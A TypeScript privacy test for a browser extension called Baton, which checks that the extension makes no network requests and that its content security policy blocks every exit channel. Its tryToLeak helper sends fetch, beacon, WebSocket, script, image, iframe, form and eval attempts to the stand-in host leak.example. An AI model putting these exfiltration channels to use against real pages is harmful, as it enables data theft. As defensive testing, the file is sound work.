/**
 * A whole practice call, an export, delivery's reply to it and every page of Baton, while the browser writes down all that it
 * asks of the network and every other name fails: Baton asks for nothing, and could not if it tried.
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ROOT } from '../harness/build-extension';
import type { NetRequest } from '../harness/net-log';
import { netLogFlags, readNetLog } from '../harness/net-log';
import { SITE_HOSTS } from '../harness/site-server';
import { TEST_EXTENSION_ID } from '../harness/test-key';
import type { Judged } from '../practice/judged-run';
import { judgedRun } from '../practice/judged-run';
import { parsePracticeCall } from '../practice/practice-call';
import type { Answered } from './answer-packet';
import { answerPacket } from './answer-packet';

const EXT = `chrome-extension://${TEST_EXTENSION_ID}`;
const LEAK = 'leak.example';
const CONTROL = 'control.example';
/**
 * What the browser asks for itself, whatever page it shows, and never for a page: who is signed in, which
 * kinds of fields a form has, the dictionary of its spelling check, updates (docs/privacy.md).
 */
const BROWSERS_OWN = /^https?:\/\/(content-autofill\.googleapis\.com\/|redirector\.gvt1\.com\/edgedl\/chrome\/dict\/|accounts\.google\.com\/ListAccounts\?|(update|safebrowsing|optimizationguide-pa)\.googleapis\.com\/|clients2\.google\.com\/|android\.clients\.google\.com\/)/u;
const out = mkdtempSync(join(tmpdir(), 'baton-privacy-'));
let requests: NetRequest[] = [];
let names: string[] = [];
let refused: string[] = [];
let attempts: string[] = [];
let played: Judged;
let answered: Answered;

/** Every way out of a page, tried in Baton's own; names the ones that got through, and lists what the policy refused. */
async function tryToLeak(page: Page): Promise<{ refused: string[]; through: string[] }> {
  return page.evaluate(async (host) => {
    const refusals: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => { refusals.push(event.effectiveDirective); });
    const through: string[] = [];
    const note = (name: string, work: () => Promise<unknown>): Promise<void> => work().then(() => { through.push(name); }, () => undefined);
    const append = (tag: string, set: Record<string, string>): Promise<void> => new Promise((resolve, reject) => {
      const element = Object.assign(document.createElement(tag), set);
      element.addEventListener('load', () => { resolve(); });
      element.addEventListener('error', () => { reject(new Error(tag)); });
      setTimeout(() => { reject(new Error(tag)); }, 1_500);
      document.body.append(element);
    });
    await Promise.all([
      note('fetch', async () => fetch(`https://${host}/fetch`, { mode: 'no-cors' })),
      note('beacon', async () => { if (!navigator.sendBeacon(`https://${host}/beacon`, 'x')) throw new Error('beacon'); return Promise.reject(new Error('queued only')); }),
      note('socket', async () => new Promise((resolve, reject) => { const socket = new WebSocket(`wss://${host}/socket`); socket.onopen = resolve; socket.onerror = reject; })),
      note('import', async () => import(/* @vite-ignore */ `https://${host}/script.js`)),
      note('image', async () => append('img', { src: `https://${host}/image.png` })),
      note('script', async () => append('script', { src: `https://${host}/script.js` })),
      note('style', async () => append('link', { rel: 'stylesheet', href: `https://${host}/style.css` })),
      note('frame', async () => append('iframe', { src: `https://${host}/frame` }).then(() => Promise.reject(new Error('an error page also loads')))),
      note('inline', async () => { const element = document.createElement('script'); element.textContent = 'globalThis.ranInline = true'; document.body.append(element); return 'ranInline' in globalThis ? undefined : Promise.reject(new Error('inline')); }),
      // In a task of its own: what the debugger runs directly may use eval.
      note('eval', async () => new Promise((resolve, reject) => {
        setTimeout(() => {
          // Loosely typed on purpose: that it is refused is what is tested.
          try { resolve(Reflect.construct(Function, ['return 1'])); } catch { reject(new Error('eval')); }
        });
      })),
    ]);
    const form = Object.assign(document.createElement('form'), { action: `https://${host}/form`, target: '_blank' });
    document.body.append(form);
    form.submit();
    await new Promise((resolve) => { setTimeout(resolve, 500); });
    return { refused: [...new Set(refusals)].sort(), through };
  }, LEAK);
}

beforeAll(async () => {
  const file = join(out, 'net.json');
  const call = parsePracticeCall(readFileSync(join(ROOT, 'tests/practice/calls/s1-ko-meet-first-meeting.json'), 'utf8'));
  const options = { call, headless: true, speed: null, out, screenshots: null, say: () => undefined, flags: netLogFlags(file) };
  played = await judgedRun(options, async (stage, zip) => {
    for (const place of ['library.html', 'library.html#/help', 'library.html#/welcome', 'library.html#/practice', 'library.html#/settings', 'library.html#/deals', 'library.html#/reply', 'popup.html', 'practice.html', 'sidepanel.html']) {
      const page = await stage.session.open(`${EXT}/${place}`);
      await page.locator('#root > *').first().waitFor();
      await page.waitForTimeout(400);
      await page.close();
    }
    answered = await answerPacket(stage.session, zip, `${EXT}/library.html`);
    const own = await stage.session.open(`${EXT}/library.html#/help`);
    ({ refused, through: attempts } = await tryToLeak(own));
    // That the log would show it: a page of the web asks the same.
    const web = stage.pages.page() ?? (await stage.session.open('https://meet.google.com/'));
    await web.evaluate(async (host) => fetch(`https://${host}/`, { mode: 'no-cors' }).catch(() => undefined), CONTROL);
  });
  ({ requests, names } = readNetLog(file));
}, 240_000);

afterAll(() => { rmSync(out, { recursive: true, force: true }); });

describe('a whole call, an export and every page of Baton', () => {
  it('end in the packet that the script expects: the first meeting on Meet, in Korean', () => {
    expect(played.findings.filter((one) => one.kind === 'fault' || one.text.includes('promises that wait for delivery'))).toEqual([]);
    expect(played.packet.meetings.map((meeting) => meeting.segments.map((one) => one.platform))).toEqual([['meet']]);
    expect(played.packet.notes.concat().sort((a, b) => (a.offsetMs ?? 0) - (b.offsetMs ?? 0))[0]?.offsetMs).toBe(50_000);
  });

  it('come back as delivery’s reply: filled in in the packet’s own page, taken over, and seen on the deal', () => {
    expect(answered.said).toContain('2건을 반영했습니다. 고객과 다시 이야기해야 합니다');
    expect(answered.standing).toContain('보완 요청');
    expect(answered.gap).toContain('창고마다');
    expect(answered.alternative).toMatch(/고객과 다시 이야기[\s\S]*수행팀: 1차는 조회만/u);
  });

  it('are in the log: the call page’s own requests are there, and a control request', () => {
    expect(requests.some(({ url }) => url.startsWith('https://meet.google.com/'))).toBe(true);
    expect([...names, ...requests.map(({ url }) => url)].some((one) => one.includes(CONTROL))).toBe(true);
  });

  it('ask nothing of the network: no request is Baton’s', () => {
    const web = requests.filter(({ url }) => /^(https?|wss?|ftp):/u.test(url));
    expect(web.filter(({ initiator }) => initiator.includes('extension'))).toEqual([]);
    const hostOf = (url: string): string => new URL(url).hostname;
    const browsers = web.filter(({ url, initiator }) => BROWSERS_OWN.test(url) && initiator === 'not an origin');
    const others = web.filter((one) => !SITE_HOSTS.some((host) => hostOf(one.url) === host) && hostOf(one.url) !== CONTROL && !browsers.includes(one));
    expect(others).toEqual([]);
  });

  it('add nothing to what the call page asks of its own host', () => {
    const paths = requests.filter(({ url }) => url.startsWith('https://meet.google.com/')).map(({ url }) => new URL(url).pathname);
    expect(paths.filter((path) => !/^\/(__fx\/|favicon\.ico$|[a-z]{3}-[a-z]{4}-[a-z]{3}\/?$|$)/u.test(path))).toEqual([]);
  });

  it('could not leak if they tried: every way out is refused before any name is looked up', () => {
    expect(attempts).toEqual([]);
    expect(refused).toEqual(expect.arrayContaining(['connect-src', 'form-action', 'frame-src', 'img-src', 'script-src-elem', 'style-src-elem']));
    expect([...names, ...requests.map(({ url }) => url)].filter((one) => one.includes(LEAK))).toEqual([]);
  });
});
